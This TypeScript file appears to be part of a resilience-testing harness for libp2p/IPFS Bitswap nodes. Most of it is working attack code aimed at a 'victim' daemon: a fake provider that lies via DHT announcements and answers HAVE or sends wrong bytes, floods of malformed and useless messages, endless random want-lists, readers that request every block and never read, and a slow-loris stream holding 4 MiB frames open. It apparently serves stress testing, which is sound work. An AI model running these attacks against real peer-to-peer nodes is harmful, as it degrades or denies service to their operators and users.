/** Attacks with Bitswap messages. */
import type { Connection, Libp2p, Stream } from '@libp2p/interface'
import { CID } from 'multiformats/cid'
import { randomBytes } from 'node:crypto'
import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, numberOf, textOf, untilOver } from '../attack.ts'
import { dial, isEnded, onBytes, openLiar, openStream, send, steadyConnection } from '../liar.ts'
import { ADD_PROVIDER, BITSWAP, dhtPeer, dhtRequest, emptyEntries, field, frame, Frames, FULL_MESSAGE_BYTES, have, LAN_KAD, MIB, payload, randomCid, varint, type Want, wantBlock, wantHave, wantList, wantsOf } from '../wire.ts'

/** Announces itself as provider and says HAVE to everything. `sends`: `wrong-bytes` or `nothing`. */
export async function haveEverything (attack: Attack): Promise<void> {
  const isSending = textOf(attack, 'sends') === 'wrong-bytes'
  const liar = await openLiar()
  let answer: Stream | undefined
  await liar.handle(BITSWAP, (stream) => {
    const frames = new Frames()
    onBytes(stream, (bytes) => {
      const wants = frames.push(bytes).flatMap(wantsOf).filter(({ isCancel }) => !isCancel)
      if (wants.length === 0 || answer === undefined) return
      void send(answer, frame(...wants.map((want) => lieAbout(want, isSending))))
      attack.count('lies', wants.length)
    })
  })
  await announce(liar, attack, attack.honest)
  let connection = await announce(liar, attack, attack.victim)
  answer = await openStream(connection, BITSWAP, attack.signal)
  attack.inPosition()
  await untilOver(attack, async () => {
    if (connection.status !== 'open') connection = await dial(liar, attack.victim, attack.signal)
    if (answer?.status !== 'open') answer = await openStream(connection, BITSWAP, attack.signal)
    await sleep(100, undefined, { signal: attack.signal })
  })
}

/** Sends messages that cannot be, again and again. `kind`: which. */
export async function badMessages (attack: Attack): Promise<void> {
  const message = BAD_MESSAGES[textOf(attack, 'kind')]
  if (message === undefined) throw new Error('No such message')
  const bytes = message()
  const liar = await openLiar()
  const connection = steadyConnection(liar, attack)
  await connection()
  attack.inPosition()
  await untilOver(attack, async () => {
    const stream = await openStream(await connection(), BITSWAP, attack.signal)
    await send(stream, bytes)
    attack.count('sent')
    if (await isEnded(stream, REFUSAL_MS)) attack.count('refused')
    stream.abort(new Error('Done'))
  })
}

/** Asks for blocks that nobody has, and never stops. `connections` of one peer id, `wantsPerSecond` in all. */
export async function endlessWants (attack: Attack): Promise<void> {
  const liar = await openLiar()
  await liar.handle(BITSWAP, (stream) => { onBytes(stream, (bytes) => { attack.count('answeredBytes', bytes.byteLength) }) })
  const perSecond = numberOf(attack, 'wantsPerSecond')
  const connections = numberOf(attack, 'connections')
  const start = performance.now()
  let sentCount = 0
  const flood = async (connection: () => Promise<Connection>): Promise<void> => {
    const stream = await openStream(await connection(), BITSWAP, attack.signal)
    while (!attack.signal.aborted) {
      if (!await send(stream, wantList(...Array.from({ length: WANTS_PER_MESSAGE }, () => wantHave(randomCid()))))) return
      attack.count('wants', WANTS_PER_MESSAGE)
      sentCount += WANTS_PER_MESSAGE
      await sleep(Math.max(0, sentCount / perSecond * 1000 - (performance.now() - start)))
    }
  }
  attack.inPosition()
  await Promise.all(Array.from({ length: connections }, async () => {
    const connection = steadyConnection(liar, attack)
    await untilOver(attack, async () => { await flood(connection) })
  }))
}

/** Sends messages that may be sent and are of no use, as fast as they go. `kind`: which. */
export async function uselessMessages (attack: Attack): Promise<void> {
  const message = USELESS_MESSAGES[textOf(attack, 'kind')]?.()
  if (message === undefined) throw new Error('No such message')
  const liar = await openLiar()
  const connection = steadyConnection(liar, attack)
  await connection()
  attack.inPosition()
  await untilOver(attack, async () => {
    const stream = await openStream(await connection(), BITSWAP, attack.signal)
    while (!attack.signal.aborted && await send(stream, message)) attack.count('sent')
  })
}

/** Wants every block that the victim has, over and over, and reads nothing. `peers` of it at once. */
export async function deafReaders (attack: Attack): Promise<void> {
  const cids = attack.held.map((cid) => CID.parse(cid).bytes)
  const connect = async (): Promise<Stream> => {
    const liar = await openLiar()
    await liar.handle(BITSWAP, (stream) => { stream.pause() })
    return await openStream(await dial(liar, attack.victim, attack.signal), BITSWAP, attack.signal)
  }
  const streams = await Promise.all(Array.from({ length: numberOf(attack, 'peers') }, connect))
  attack.inPosition()
  await untilOver(attack, async () => {
    await Promise.all(streams.map(async (stream) => { if (await send(stream, wantList(...cids.map(wantBlock)))) attack.count('wants', cids.length) }))
    await sleep(20)
  })
}

/** Begins messages of 4 MiB and sends one byte a second, on `streams` streams. */
export async function slowLoris (attack: Attack): Promise<void> {
  const liar = await openLiar()
  const connection = await dial(liar, attack.victim, attack.signal)
  const streams = await Promise.all(Array.from({ length: numberOf(attack, 'streams') }, async () => {
    // More than the victim lets one peer open: those that it refuses are counted.
    try {
      const stream = await openStream(connection, BITSWAP, attack.signal)
      await send(stream, varint(FULL_MESSAGE_BYTES))
      return [stream]
    } catch {
      attack.count('refused')
      return []
    }
  }))
  attack.inPosition()
  await untilOver(attack, async () => {
    for (const stream of streams.flat()) if (await send(stream, Uint8Array.of(0))) attack.count('bytes')
    await sleep(1000, undefined, { signal: attack.signal })
  })
}

/** How long a bad message may go unanswered before it counts as taken, in milliseconds. */
const REFUSAL_MS = 5000

const WANTS_PER_MESSAGE = 1000

const BAD_MESSAGES: Readonly<Record<string, () => Uint8Array>> = {
  'one byte too long': () => Buffer.concat([varint(FULL_MESSAGE_BYTES + 1), new Uint8Array(MIB)]),
  'length without end': () => new Uint8Array(1000).fill(0xff),
  'empty wants': () => frame(field(1, emptyEntries(1).subarray(0, FULL_MESSAGE_BYTES - 6))),
  'empty blocks': () => frame(emptyEntries(3)),
  'empty blocks of 1.0': () => frame(emptyEntries(2)),
  'empty presences': () => frame(emptyEntries(4))
}

const USELESS_MESSAGES: Readonly<Record<string, () => Uint8Array>> = {
  'unasked block': () => frame(payload(randomCid(), randomBytes(MIB))),
  'unknown fields': () => frame(emptyEntries(15)),
  'many unasked blocks': () => frame(...Array.from({ length: 1000 }, () => payload(randomCid(), randomBytes(32)))),
  'many unasked presences': () => frame(...Array.from({ length: 4000 }, () => have(randomCid()))),
  'no messages at all': () => new Uint8Array(MIB)
}

function lieAbout ({ cid, isHave }: Want, isSending: boolean): Uint8Array {
  return isHave || !isSending ? have(cid) : payload(cid, randomBytes(1000))
}

/** Tells a daemon that the liar has the file. */
async function announce (liar: Libp2p, attack: Attack, address: string): Promise<Connection> {
  const record = field(9, dhtPeer(liar.peerId.toMultihash().bytes, liar.getMultiaddrs().map(({ bytes }) => bytes)))
  const connection = await dial(liar, address, attack.signal)
  const stream = await openStream(connection, LAN_KAD, attack.signal)
  await send(stream, dhtRequest(ADD_PROVIDER, CID.parse(attack.cid).multihash.bytes, record))
  await stream.close({ signal: attack.signal })
  return connection
}
